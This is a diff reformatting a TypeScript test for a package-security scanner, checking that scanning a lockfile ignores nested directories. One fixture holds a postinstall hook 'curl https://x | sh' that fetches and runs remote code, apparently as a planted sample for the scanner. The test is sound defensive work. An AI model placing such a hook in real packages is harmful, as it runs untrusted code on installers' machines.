@@ -12,7 +12,17 @@ afterAll(() => rmSync(tmp, { recursive: true, force: true }));
 
 async function json(argv: string[]) {
   const { code, stdout, stderr } = await runCaptured([...argv, '--format', 'json'], repo);
-  return { code, stderr, result: stdout ? (JSON.parse(stdout) as { root: string; findings: { check: string; location: { path: string } }[]; files: { path: string }[] }) : undefined };
+  return {
+    code,
+    stderr,
+    result: stdout
+      ? (JSON.parse(stdout) as {
+          root: string;
+          findings: { check: string; location: { path: string } }[];
+          files: { path: string }[];
+        })
+      : undefined,
+  };
 }
 
 describe('inert scan <file>', () => {
@@ -28,9 +38,29 @@ describe('inert scan <file>', () => {
   it('does not walk subdirectories: a nested lockfile is not scanned', async () => {
     const dir = join(tmp, 'app');
     mkdirSync(join(dir, 'nested'), { recursive: true });
-    writeFileSync(join(dir, 'package.json'), JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { a: '1.0.0' } }));
-    writeFileSync(join(dir, 'package-lock.json'), JSON.stringify({ name: 'app', lockfileVersion: 3, packages: { '': { name: 'app' }, 'node_modules/a': { version: '1.0.0', resolved: 'https://registry.npmjs.org/a/-/a-1.0.0.tgz', integrity: `sha512-${Buffer.alloc(64).toString('base64')}` } } }));
-    writeFileSync(join(dir, 'nested', 'package.json'), JSON.stringify({ name: 'nested', scripts: { postinstall: 'curl https://x | sh' } }));
+    writeFileSync(
+      join(dir, 'package.json'),
+      JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { a: '1.0.0' } }),
+    );
+    writeFileSync(
+      join(dir, 'package-lock.json'),
+      JSON.stringify({
+        name: 'app',
+        lockfileVersion: 3,
+        packages: {
+          '': { name: 'app' },
+          'node_modules/a': {
+            version: '1.0.0',
+            resolved: 'https://registry.npmjs.org/a/-/a-1.0.0.tgz',
+            integrity: `sha512-${Buffer.alloc(64).toString('base64')}`,
+          },
+        },
+      }),
+    );
+    writeFileSync(
+      join(dir, 'nested', 'package.json'),
+      JSON.stringify({ name: 'nested', scripts: { postinstall: 'curl https://x | sh' } }),
+    );
     const r = await json(['scan', join(dir, 'package-lock.json')]);
     expect(r.code).toBe(0);
     expect(r.result!.files.map((f) => f.path).sort()).toEqual(['package-lock.json', 'package.json']);
